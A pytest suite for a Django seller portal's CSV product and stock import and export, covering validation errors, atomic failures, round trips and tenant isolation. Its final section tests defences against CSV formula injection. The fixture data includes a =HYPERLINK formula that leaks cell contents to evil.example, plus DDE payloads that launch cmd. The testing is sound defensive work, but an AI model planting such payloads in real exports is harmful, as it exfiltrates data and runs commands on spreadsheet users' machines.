"""CSV import and export through the seller portal: the happy path, every class of error
(with nothing half-imported), the stock file, and the export → import round trip."""

from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape

from catalog.models import SKU, ImportJob, Product, Stock, StockAdjustment, WholesaleTier
from catalog.services.imports import PRODUCT_COLUMNS, import_job_create
from catalog.services.stock import StockLine, stock_receive, stock_reserve
from tests.catalog.csv_rows import product_row, stock_csv, to_csv
from tests.factories import BrandFactory, CategoryFactory, SKUFactory, WarehouseFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def shop(tenants):
    CategoryFactory(slug="honey", name_en="Honey", name_zh_hans="蜂蜜")
    BrandFactory(slug="comvita", name_en="Comvita", name_zh_hans="康维他")
    WarehouseFactory(code="ningbo-bonded", kind="bonded", customs_area_code="3105")
    WarehouseFactory(code="auckland", kind="overseas", country="NZ")
    return tenants.a


def upload(tenant, data: bytes, *, kind="products", name="products.csv", language="en"):
    """Upload as the merchant does; returns (job, the job page's HTML)."""
    response = tenant.client.post(
        f"/{language}/seller/stock/imports/",
        {"kind": kind, "file": SimpleUploadedFile(name, data, content_type="text/csv")},
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    job = ImportJob.objects.for_merchant(tenant.merchant).latest("id")
    assert response.url == f"/{language}/seller/stock/imports/{job.pk}/"
    page = tenant.client.get(response.url)
    assert page.status_code == 200
    return job, page.content.decode()


def snapshot():
    """Everything an import could touch, to prove a failed import changed nothing."""
    return (
        list(Product.objects.order_by("id").values()),
        list(SKU.objects.order_by("id").values()),
        list(WholesaleTier.objects.order_by("id").values()),
        list(Stock.objects.order_by("id").values()),
        StockAdjustment.objects.count(),
    )


# --- happy path ------------------------------------------------------------------------------


def test_a_product_file_creates_draft_products_with_their_skus(shop):
    rows = [
        product_row(),
        product_row(
            sku_code="HONEY-500",
            price="219.00",
            attributes_en="size=500g;flavour=manuka",
            wholesale_tiers="",
            barcode="",
        ),
        product_row(
            product_slug="kiwi-tea",
            name_en="Kiwi Green Tea",
            name_zh_hans="奇异果绿茶",
            brand="",
            sku_code="TEA-1",
            hs_code="0902.10.00",
            price="45.50",
            trade_modes="direct;personal_parcel",
            product_record_status="",
            product_record_number="",
            wholesale_tiers="",
            attributes_en="",
            postal_tax_category="",
            customs_unit="",
            length_cm="",
        ),
    ]
    job, page = upload(shop, to_csv(rows))

    assert job.status == ImportJob.Status.SUCCEEDED
    assert (job.total_rows, job.processed_rows, job.percent) == (3, 3, 100)
    assert job.summary == {
        "products_created": 2,
        "products_updated": 0,
        "skus_created": 3,
        "skus_updated": 0,
        "rows_unchanged": 0,
    }
    assert "Imported. Every row was accepted." in page
    honey = Product.objects.get(merchant=shop.merchant, name_en="Manuka Honey UMF 10+")
    assert honey.status == Product.Status.DRAFT
    assert (honey.name_zh_hans, honey.brand.slug, honey.category.slug) == (
        "麦卢卡蜂蜜 UMF 10+",
        "comvita",
        "honey",
    )
    sku = SKU.objects.get(code="HONEY-250")
    assert sku.product == honey and sku.merchant == shop.merchant
    assert sku.attributes == {"size": "250g", "flavour": "manuka"}
    assert sku.trade_modes == ["direct"]
    assert (sku.price, sku.net_weight_kg, sku.customs_unit) == (
        Decimal("129.00"),
        Decimal("0.250"),
        "035",
    )
    assert sku.product_record_status == "none" and sku.postal_tax_category == "13"
    assert list(sku.tiers.values_list("min_quantity", "unit_price")) == [
        (10, Decimal("119.00")),
        (50, Decimal("109.00")),
    ]
    tea = SKU.objects.get(code="TEA-1")
    # defaults for empty optional cells; HS code separators dropped as in the portal
    assert (tea.hs_code, tea.customs_unit, tea.postal_tax_category, tea.length_cm) == (
        "09021000",
        "011",
        "20",
        Decimal("0"),
    )
    assert tea.product.brand is None and tea.trade_modes == ["direct", "personal_parcel"]


def test_a_byte_order_mark_and_windows_line_ends_are_fine(shop):
    data = to_csv([product_row()], bom=True).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    job, _page = upload(shop, data)
    assert job.status == ImportJob.Status.SUCCEEDED


def test_header_names_are_matched_in_any_order_and_case(shop):
    columns = list(reversed(PRODUCT_COLUMNS))
    data = to_csv([product_row()], columns=columns).replace(b"sku_code", b" SKU_Code ", 1)
    job, _page = upload(shop, data)
    assert job.status == ImportJob.Status.SUCCEEDED, job.errors


# --- every class of error: a report by line, and nothing imported ------------------------------


def failed(shop, data, **kwargs):
    before = snapshot()
    job, page = upload(shop, data, **kwargs)
    assert job.status == ImportJob.Status.FAILED
    assert ("Nothing was imported" if kwargs.get("language", "en") == "en" else "未导入") in page
    assert snapshot() == before, "a failed import must change nothing"
    return [(e["line"], e["column"]) for e in job.errors], job, page


GOOD = product_row()


@pytest.mark.parametrize(
    ("bad_cells", "column", "words"),
    [
        ({"price": "12,50"}, "price", "is not a number"),
        ({"price": "abc"}, "price", "is not a number"),
        ({"price": "-3"}, "price", "cannot be negative"),
        ({"price": "1.005"}, "price", "decimal places"),
        ({"price": ""}, "price", "required"),
        ({"net_weight_kg": "NaN"}, "net_weight_kg", "is not a number"),
        ({"min_order_quantity": "2.5"}, "min_order_quantity", "whole number"),
        ({"hs_code": "12345"}, "hs_code", "6, 8 or 10 digits"),
        ({"hs_code": "9912345678"}, "hs_code", "chapter"),
        ({"category": "shoes"}, "category", "Unknown category"),
        ({"brand": "gucci"}, "brand", "Unknown brand"),
        ({"trade_modes": "bonded;direct"}, "trade_modes", "submit the variant's product record"),
        ({"product_record_status": "recorded"}, "product_record_status", "set by customs' answer"),
        ({"product_record_number": "NB-9"}, "product_record_number", "set by customs' answer"),
        ({"trade_modes": "bonded;teleport"}, "trade_modes", "Unknown trade mode"),
        ({"trade_modes": ""}, "trade_modes", "at least one trade mode"),
        ({"attributes_en": "size"}, "attributes_en", "name=value"),
        ({"wholesale_tiers": "ten=1"}, "wholesale_tiers", "quantity=unit price"),
        ({"wholesale_tiers": "10=500.00"}, "wholesale_tiers", "cheaper than the regular price"),
        ({"gross_weight_kg": "0.100"}, "gross_weight_kg", "gross weight"),
        ({"origin_country": "New Zealand"}, "origin_country", "two-letter"),
        ({"postal_tax_category": "99"}, "postal_tax_category", "is not one of"),
        ({"listing_currency": "XYZ"}, "listing_currency", "not a currency"),
        ({"sku_code": ""}, "sku_code", "required"),
        ({"product_slug": "Manuka Honey!"}, "product_slug", "lower-case letters"),
    ],
)
def test_a_bad_cell_is_reported_by_line_and_column(shop, bad_cells, column, words):
    bad = product_row(product_slug="second", name_en="Second", sku_code="BAD-1")
    bad.update(bad_cells)
    rows = [product_row(sku_code="GOOD-1"), bad]
    errors, job, page = failed(shop, to_csv(rows))
    assert (3, column) in errors, job.errors
    message = next(e["message"] for e in job.errors if e["column"] == column)
    assert words.lower() in message.lower()
    # the seller reads the same message on the import's page, beside its line and column
    assert escape(message) in page


def test_a_missing_column_is_named(shop):
    columns = [c for c in PRODUCT_COLUMNS if c != "hs_code"]
    errors, job, _page = failed(shop, to_csv([GOOD], columns=columns))
    assert errors == [(1, "hs_code")]
    assert job.errors[0]["message"] == "This column is missing."


def test_unknown_and_repeated_columns_are_named(shop):
    columns = [*PRODUCT_COLUMNS, "prise", "price"]
    errors, job, _page = failed(shop, to_csv([[*GOOD.values(), "1", "2"]], columns=columns))
    assert (1, "prise") in errors and (1, "price") in errors
    assert "Unknown column" in " ".join(e["message"] for e in job.errors)


def test_a_row_with_the_wrong_number_of_cells(shop):
    data = to_csv([GOOD]) + b"only,three,cells\r\n"
    errors, job, _page = failed(shop, data)
    assert errors == [(3, "")]
    assert "3 cells" in job.errors[0]["message"]


def test_the_same_sku_twice_in_a_file(shop):
    rows = [product_row(), product_row(price="130.00")]
    errors, job, _page = failed(shop, to_csv(rows))
    assert errors == [(3, "sku_code")]
    assert "already on line 2" in job.errors[0]["message"]


def test_a_sku_code_already_used_by_another_product(shop):
    SKUFactory(product__merchant=shop.merchant, code="HONEY-250", product__slug="other")
    errors, job, _page = failed(shop, to_csv([GOOD]))
    assert errors == [(2, "sku_code")]
    assert "belongs to another product" in job.errors[0]["message"]


def test_product_cells_must_agree_on_every_row_of_a_product(shop):
    rows = [product_row(), product_row(sku_code="HONEY-500", name_en="Another name")]
    errors, _job, _page = failed(shop, to_csv(rows))
    assert errors == [(3, "name_en")]


def test_a_product_without_any_name(shop):
    errors, _job, _page = failed(shop, to_csv([product_row(name_en="", name_zh_hans="")]))
    assert errors == [(2, "name_en")]


def test_all_problems_of_a_file_are_reported_at_once(shop):
    rows = [
        product_row(price="x"),
        product_row(product_slug="b", sku_code="B-1", category="nope"),
        product_row(product_slug="c", sku_code="C-1"),
        product_row(product_slug="d", sku_code="D-1", hs_code="1"),
    ]
    errors, _job, _page = failed(shop, to_csv(rows))
    assert errors == [(2, "price"), (3, "category"), (5, "hs_code")]


def test_a_file_that_is_not_utf8(shop):
    data = to_csv([GOOD]).decode().replace("麦卢卡蜂蜜", "蜂蜜").encode("gb18030")
    errors, job, _page = failed(shop, data)
    assert errors == [(2, "")]
    assert "not UTF-8" in job.errors[0]["message"] and "CSV UTF-8" in job.errors[0]["message"]


def test_a_binary_file(shop):
    errors, job, _page = failed(shop, b"PK\x03\x04\x00\x00binary", name="products.xlsx")
    assert "not a CSV" in job.errors[0]["message"] or "not UTF-8" in job.errors[0]["message"]


def test_an_empty_file_and_a_file_with_only_a_header(shop):
    _errors, job, _page = failed(shop, b"")
    assert job.errors[0]["message"] == "The file is empty."
    _errors, job, _page = failed(shop, to_csv([]))
    assert job.errors[0]["message"] == "The file has a header but no rows."


def test_too_many_rows(shop, settings):
    settings.CATALOG_IMPORT_MAX_ROWS = 3
    rows = [product_row(sku_code=f"S-{i}") for i in range(4)]
    errors, job, _page = failed(shop, to_csv(rows))
    assert errors == [(5, "")]
    assert "at most 3 per file" in job.errors[0]["message"]


def test_a_file_too_large(shop, settings):
    settings.CATALOG_IMPORT_MAX_BYTES = 1024
    rows = [product_row(sku_code=f"S-{i}") for i in range(10)]
    _errors, job, _page = failed(shop, to_csv(rows))
    assert "too large: at most 1 KB" in job.errors[0]["message"]
    assert job.total_rows == 0


def test_the_report_is_in_the_uploaders_language(shop):
    _errors, job, page = failed(shop, to_csv([product_row(price="abc")]), language="zh-hans")
    message = job.errors[0]["message"]
    assert "不是数字" in message, message
    assert "未导入任何内容" in page


# --- stock files ---------------------------------------------------------------------------------


@pytest.fixture
def stocked(shop):
    sku = SKUFactory(
        product__merchant=shop.merchant,
        code="HONEY-250",
        product_record_status="recorded",
        product_record_number="NB-1",
    )
    return sku


def test_a_stock_file_sets_counted_quantities(shop, stocked):
    other = SKUFactory(product__merchant=shop.merchant, code="TEA-1")
    auckland = WarehouseFactory._meta.model.objects.get(code="auckland")
    stock_receive(merchant=shop.merchant, sku=other, warehouse=auckland, quantity=7)
    data = stock_csv(
        [
            ("HONEY-250", "ningbo-bonded", "40"),
            ("HONEY-250", "AUCKLAND", "5"),
            ("TEA-1", "auckland", "7"),
        ]
    )
    job, page = upload(shop, data, kind="stock", name="stock.csv")
    assert job.status == ImportJob.Status.SUCCEEDED, job.errors
    assert job.summary == {"stock_changed": 2, "rows_unchanged": 1}
    counts = {
        (s.sku.code, s.warehouse.code): s.on_hand
        for s in Stock.objects.for_merchant(shop.merchant).select_related("sku", "warehouse")
    }
    assert counts == {
        ("HONEY-250", "ningbo-bonded"): 40,
        ("HONEY-250", "auckland"): 5,
        ("TEA-1", "auckland"): 7,
    }
    imported = StockAdjustment.objects.filter(reason=StockAdjustment.Reason.IMPORT)
    assert imported.count() == 2
    assert all(a.actor == shop.owner and f"#{job.pk}" in a.note for a in imported)


@pytest.mark.parametrize(
    ("row", "column", "words"),
    [
        (("NOPE-1", "auckland", "3"), "sku_code", "Unknown SKU code"),
        (("HONEY-250", "mars", "3"), "warehouse_code", "Unknown warehouse code"),
        (("HONEY-250", "auckland", "-3"), "quantity", "not a whole number"),
        (("HONEY-250", "auckland", "3.5"), "quantity", "not a whole number"),
        (("HONEY-250", "auckland", ""), "quantity", "required"),
        (("HONEY-250", "ningbo-bonded", "3"), "sku_code", "already on line 2"),
    ],
)
def test_stock_file_errors(shop, stocked, row, column, words):
    data = stock_csv([("HONEY-250", "ningbo-bonded", "2"), row])
    errors, job, _page = failed(shop, data, kind="stock")
    assert errors == [(3, column)]
    assert words in job.errors[0]["message"]


def test_stock_cannot_go_into_another_merchants_warehouse(shop, stocked, tenants):
    WarehouseFactory(code="b-private", kind="overseas", merchant=tenants.b.merchant)
    errors, job, _page = failed(shop, stock_csv([("HONEY-250", "b-private", "3")]), kind="stock")
    assert errors == [(2, "warehouse_code")]
    assert "Unknown warehouse code" in job.errors[0]["message"]


def test_stock_rules_of_the_services_come_back_as_row_errors(shop, stocked):
    unrecorded = SKUFactory(product__merchant=shop.merchant, code="PLAIN-1")
    auckland = WarehouseFactory._meta.model.objects.get(code="auckland")
    row = stock_receive(merchant=shop.merchant, sku=stocked, warehouse=auckland, quantity=5)
    stock_reserve(lines=[StockLine(row.stock_id, 4)])
    data = stock_csv([("HONEY-250", "auckland", "2"), (unrecorded.code, "ningbo-bonded", "1")])
    errors, job, _page = failed(shop, data, kind="stock")
    assert errors == [(2, "quantity"), (3, "warehouse_code")]
    assert "reserved" in job.errors[0]["message"]
    assert "bonded" in job.errors[1]["message"]


def test_a_stock_file_under_a_products_upload_is_a_header_error(shop):
    errors, _job, _page = failed(shop, stock_csv([("A", "b", "1")]), kind="products")
    assert (1, "warehouse_code") in errors and (1, "product_slug") in errors


# --- export and round trip -----------------------------------------------------------------------


def download(tenant, kind) -> bytes:
    response = tenant.client.get(f"/en/seller/stock/export/{kind}.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content)


def test_export_then_import_changes_nothing(shop):
    rows = [
        product_row(),
        product_row(sku_code="HONEY-500", wholesale_tiers="", attributes_en="size=500g"),
        product_row(product_slug="tea", name_en="Tea", sku_code="TEA-1", description_en="<p>x"),
    ]
    assert upload(shop, to_csv(rows))[0].status == ImportJob.Status.SUCCEEDED
    auckland = WarehouseFactory._meta.model.objects.get(code="auckland")
    for sku in SKU.objects.filter(merchant=shop.merchant):
        stock_receive(merchant=shop.merchant, sku=sku, warehouse=auckland, quantity=3)

    products_file, stock_file = download(shop, "products"), download(shop, "stock")
    assert products_file.startswith("\ufeff".encode())
    assert products_file.decode("utf-8-sig").splitlines()[0] == ",".join(PRODUCT_COLUMNS)
    before = snapshot()

    job, _page = upload(shop, products_file)
    assert job.status == ImportJob.Status.SUCCEEDED, job.errors
    assert job.summary["rows_unchanged"] == 3
    assert job.summary["skus_updated"] == job.summary["products_updated"] == 0
    job, _page = upload(shop, stock_file, kind="stock")
    assert job.summary == {"stock_changed": 0, "rows_unchanged": 3}
    assert snapshot() == before


def test_importing_the_same_original_file_twice_is_harmless(shop):
    data = to_csv([product_row(product_slug="my-own-key")])
    upload(shop, data)
    job, _page = upload(shop, data)
    assert job.status == ImportJob.Status.SUCCEEDED, job.errors
    assert job.summary["rows_unchanged"] == 1
    assert Product.objects.filter(merchant=shop.merchant).count() == 1


def test_an_edited_export_updates_what_changed(shop):
    upload(shop, to_csv([product_row(), product_row(sku_code="HONEY-500")]))
    text = download(shop, "products").decode("utf-8-sig")
    text = text.replace("HONEY-500,129.00", "HONEY-500,139.00").replace(
        "10=119.00;50=109.00", "", 1
    )
    job, _page = upload(shop, text.encode())
    assert job.status == ImportJob.Status.SUCCEEDED, job.errors
    assert job.summary["skus_updated"] == 2 and job.summary["rows_unchanged"] == 0
    assert SKU.objects.get(code="HONEY-500").price == Decimal("139.00")
    assert not SKU.objects.get(code="HONEY-250").tiers.exists()


def test_exports_hold_only_the_merchants_own_rows(shop, tenants):
    SKUFactory(product__merchant=tenants.b.merchant, code="B-SECRET")
    upload(shop, to_csv([product_row()]))
    assert b"B-SECRET" not in download(shop, "products")
    assert b"HONEY-250" not in download(tenants.b, "products")
    assert shop.client.get("/en/seller/stock/export/orders.csv").status_code == 404


# --- big files go to a worker --------------------------------------------------------------------


def test_a_big_file_is_queued_and_run_after_commit(
    shop, settings, django_capture_on_commit_callbacks
):
    settings.CATALOG_IMPORT_INLINE_MAX_ROWS = 2
    rows = [product_row(sku_code=f"S-{i}") for i in range(3)]
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        job = import_job_create(
            merchant=shop.merchant, kind="products", data=to_csv(rows), actor=shop.owner
        )
    assert job.status == ImportJob.Status.QUEUED and len(callbacks) == 1
    page = shop.client.get(reverse("stock:import_detail", args=[job.pk])).content.decode()
    assert 'http-equiv="refresh"' in page and "Queued" in page
    callbacks[0]()  # the task, eager here; tests/catalog/test_csv_worker.py uses a real worker
    job.refresh_from_db()
    assert job.status == ImportJob.Status.SUCCEEDED and job.percent == 100
    page = shop.client.get(reverse("stock:import_detail", args=[job.pk])).content.decode()
    assert 'http-equiv="refresh"' not in page


def test_running_a_job_twice_does_nothing_the_second_time(shop):
    from catalog.services.imports import import_job_run

    job, _page = upload(shop, to_csv([product_row()]))
    again = import_job_run(job_id=job.pk)
    assert again.status == ImportJob.Status.SUCCEEDED
    assert SKU.objects.filter(code="HONEY-250").count() == 1


# --- formula cells (a spreadsheet must not run what a merchant typed) --------------------------

FORMULAS = {
    "name_en": '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
    "name_zh_hans": "+SUM(1,2)",
    "description_en": "@SUM(A1:A9)",
    "description_zh_hans": "\t=cmd|' /C calc'!A0",
}


@pytest.fixture
def formula_products(shop):
    """Listings whose text a spreadsheet would execute, typed in the portal (not the CSV)."""
    from catalog.models import Category
    from catalog.services.products import product_create
    from tests.catalog.listing_helpers import sku_input

    honey = Category.objects.get(slug="honey")
    product_create(
        merchant=shop.merchant,
        category=honey,
        skus=[
            sku_input("=HONEY", attributes_en={"+cmd|' /C notepad'!A0": "250g"}),
            sku_input("HONEY-2", attributes_en={"-": "@SUM(1)"}, barcode="-1+1"),
        ],
        **FORMULAS,
    )
    product_create(
        merchant=shop.merchant,
        category=honey,
        name_en="'Tis the season",  # an apostrophe of its own survives the round trip
        name_zh_hans="\r=1+1",
        skus=[sku_input("TEA-1", attributes_en={"'quoted": "-"})],
    )
    return shop


def exported_rows(tenant) -> list[dict]:
    import csv
    import io

    text = download(tenant, "products").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_formula_cells_are_exported_as_text(formula_products):
    rows = {row["sku_code"].lstrip("'"): row for row in exported_rows(formula_products)}
    honey = rows["=HONEY"]
    assert honey["sku_code"] == "'=HONEY"
    assert honey["name_en"] == "'" + FORMULAS["name_en"]
    assert honey["name_zh_hans"] == "'+SUM(1,2)"
    assert honey["description_en"] == "'@SUM(A1:A9)"
    assert honey["description_zh_hans"] == "'\t=cmd|' /C calc'!A0"
    assert honey["attributes_en"] == "'+cmd|' /C notepad'!A0=250g"
    assert rows["HONEY-2"]["attributes_en"] == "'-=@SUM(1)"
    assert rows["HONEY-2"]["barcode"] == "'-1+1"
    assert rows["TEA-1"]["name_en"] == "''Tis the season"
    assert rows["TEA-1"]["name_zh_hans"] == "'=1+1"  # (names are stored stripped)
    assert rows["TEA-1"]["attributes_en"] == "''quoted=-"
    # No cell of the file starts with what a spreadsheet runs; numbers stay numbers.
    for row in rows.values():
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", (column, cell)
        assert row["price"] == "199.00"


def test_formula_cells_survive_the_round_trip(formula_products):
    before = snapshot()
    products_file = download(formula_products, "products")
    job, _page = upload(formula_products, products_file)
    assert job.status == ImportJob.Status.SUCCEEDED, job.errors
    assert job.summary["rows_unchanged"] == 3
    assert snapshot() == before
    product = Product.objects.get(merchant=formula_products.merchant, name_zh_hans="+SUM(1,2)")
    assert product.name_en == FORMULAS["name_en"]
    assert SKU.objects.get(code="=HONEY").attributes_en == {"+cmd|' /C notepad'!A0": "250g"}


def test_a_typed_apostrophe_before_a_formula_character_imports_as_text(shop):
    job, _page = upload(shop, to_csv([product_row(name_en="'=1+1", attributes_en="'-=x")]))
    assert job.status == ImportJob.Status.SUCCEEDED, job.errors
    sku = SKU.objects.get(code="HONEY-250")
    assert sku.product.name_en == "=1+1" and sku.attributes == {"-": "x"}
